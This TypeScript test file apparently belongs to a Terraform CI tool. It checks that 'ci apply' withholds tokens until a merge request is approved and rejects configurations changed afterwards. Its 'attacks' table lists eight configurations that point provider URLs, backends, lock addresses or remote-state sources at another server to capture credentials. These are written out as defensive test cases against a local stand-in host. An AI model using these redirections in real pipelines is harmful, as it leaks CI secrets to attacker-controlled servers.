import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { HttpProxy } from "../../support/http-proxy";
import { openPlace, type Place, TOKENS } from "../support/place";
import { COMMENT_TOKEN, TEAM } from "./team";

const HEAD = "a".repeat(40);
const MERGED = "b".repeat(40);
const PASSWORD = "password-of-the-state";
const PROVIDERS = { steward: { source: "registry.steward.example/steward/steward" } };

/** A configuration with one change, and with parts that send tokens to other servers. */
const configuration = ({ provider = {}, ...more }: Readonly<Record<string, object>> = {}) => ({
  terraform: { required_providers: PROVIDERS, ...more["terraform"] },
  provider: { steward: [provider] },
  resource: { steward_job_token_scope: { limit: { project: "acme/shop", inbound_enabled: true } } },
  ...(more["data"] && { data: more["data"] }),
});

describe("ci apply uses its tokens only after the approval", () => {
  let place: Place;
  let proxy: HttpProxy;
  let url: string;
  let elsewhere: Server;
  let other: string;
  /** The URLs and headers of all requests to the proxy and to other servers. */
  const seen: { readonly url: string; readonly headers: IncomingHttpHeaders }[] = [];

  beforeAll(async () => {
    place = await openPlace({
      ...TEAM,
      projects: [{ path: "acme/shop" }, { path: "acme/settings" }],
    });
    proxy = new HttpProxy(place.service.url, async (passage) => {
      seen.push({ url: passage.url, headers: passage.incoming.headers });
      passage.answer(await passage.forward());
    });
    url = await proxy.start();
    elsewhere = createServer((request, response) => {
      seen.push({ url: `${other}${request.url}`, headers: request.headers });
      response.writeHead(200, { "content-type": "application/json" }).end("{}");
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
    other = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    elsewhere.closeAllConnections();
    elsewhere.close();
    await proxy.close();
    await place.close();
  });

  const env = () => ({
    STEWARD_BASE_URL: url,
    STEWARD_COMMENT_TOKEN: COMMENT_TOKEN,
    CI_API_V4_URL: `${url}/api/v4`,
    CI_PROJECT_ID: "2",
    CI_COMMIT_BRANCH: "main",
    TF_HTTP_USERNAME: "steward",
    TF_HTTP_PASSWORD: PASSWORD,
    STEWARD_APP_SECRET: "secret-of-the-app",
  });

  /**
   * Opens a merge request for a configuration, writes the comment of the request, and returns the number of the request.
   */
  async function askFor(config: object, approvers: readonly string[]): Promise<number> {
    const { service } = place;
    const send = async (path: string, token: string, body: object) => {
      const response = await fetch(`${service.url}${path}`, {
        method: path.endsWith("/1") ? "PUT" : "POST",
        headers: { "private-token": token, "content-type": "application/json" },
        body: JSON.stringify(body),
      });
      if (!response.ok) throw new Error(await response.text());
      return (await response.json()) as { readonly iid: number };
    };
    const request = { title: "Limit", source_branch: "limit", sha: HEAD };
    const { iid } = await send("/_steward/projects/2/merge_requests", TOKENS.developer, request);
    place.write("main.tf.json", config);
    const mine = { ...env(), CI_COMMIT_SHA: HEAD, CI_MERGE_REQUEST_IID: String(iid) };
    const files = ["--report", "plan.json", "--out-approval", "changes.json"];
    expect(await place.run(["plan", "--config", ".", "--lock=false", ...files], mine)).toMatchObject({
      code: 0,
    });
    const posted = await place.run(["ci", "comment", "plan.json", "--approval", "changes.json"], mine);
    expect(posted).toMatchObject({ code: 0, err: "" });
    for (const token of approvers)
      await send(`/api/v4/projects/2/merge_requests/${iid}/approve`, token, { sha: HEAD });
    return iid;
  }

  const apply = async (iid: number) => {
    await place.byHand("PUT", `/_steward/projects/2/merge_requests/${iid}`, { merge_commit_sha: MERGED });
    seen.length = 0;
    const ended = await place.run(["ci", "apply", "--config", "."], { ...env(), CI_COMMIT_SHA: MERGED });
    await place.byHand("PUT", `/_steward/projects/2/merge_requests/${iid}`, { state: "closed" });
    return ended;
  };
  const secretsSeen = () => {
    const texts = seen.map(({ headers }) => JSON.stringify(headers));
    const basic = Buffer.from(`steward:${PASSWORD}`).toString("base64");
    const secrets = [TOKENS.maintainer, PASSWORD, basic, "secret-of-the-app"];
    return secrets.filter((secret) => texts.some((text) => text.includes(secret)));
  };

  test("without an approval, ci apply sends no token or password except STEWARD_COMMENT_TOKEN", async () => {
    const ended = await apply(await askFor(configuration(), []));
    expect(ended).toMatchObject({
      code: 1,
      err: expect.stringMatching(/1 approval is needed.*, and 0 approvals count\./),
    });
    expect(seen.length).toBeGreaterThan(0);
    expect(secretsSeen()).toEqual([]);
  });

  const attacks: Readonly<Record<string, () => object>> = {
    "another base_url": () => configuration({ provider: { base_url: other } }),
    "a base_url of a variable": () => ({
      ...configuration({ provider: { base_url: "${var.address}" } }),
      variable: { address: { type: "string", default: other } },
    }),
    "a base_url of a data source": () =>
      configuration({
        provider: { base_url: "${data.terraform_remote_state.other.outputs.address}" },
        data: {
          terraform_remote_state: { other: { backend: "http", config: { address: `${other}/state` } } },
        },
      }),
    "a second configuration of the provider": () => ({
      ...configuration(),
      provider: { steward: [{}, { alias: "b", base_url: other }] },
    }),
    "a backend": () => configuration({ terraform: { backend: { http: { address: `${other}/state` } } } }),
    "a lock of a backend": () =>
      configuration({
        terraform: {
          backend: {
            http: { address: `${url}/api/v4/projects/2/terraform/state/s`, lock_address: `${other}/lock` },
          },
        },
      }),
    "a state whose outputs are read": () =>
      configuration({
        data: {
          terraform_remote_state: { other: { backend: "http", config: { address: `${other}/state` } } },
        },
      }),
    "a state at an address of an expression": () => ({
      ...configuration({
        data: {
          terraform_remote_state: { other: { backend: "http", config: { address: "${var.address}" } } },
        },
      }),
      variable: { address: { type: "string", default: `${other}/state` } },
    }),
  };

  test.each(Object.entries(attacks))(
    "if the approved comment does not show %s, ci apply sends no token to it",
    async (_, attack) => {
      const iid = await askFor(configuration(), [TOKENS.maintainer]);
      place.write("main.tf.json", attack());
      const ended = await apply(iid);
      expect(ended.err).toContain("Receivers of tokens are not approved");
      expect(ended.code).toBe(1);
      expect(seen.filter((one) => one.url.startsWith(other))).toEqual([]);
      expect(secretsSeen()).toEqual([]);
    },
  );

  test("after the approval, ci apply sends STEWARD_TOKEN and applies the approved configuration", async () => {
    const ended = await apply(await askFor(configuration(), [TOKENS.maintainer]));
    expect(ended).toMatchObject({ code: 0, out: expect.stringContaining("Apply complete!") });
    expect(secretsSeen()).toEqual([TOKENS.maintainer]);
  });
});
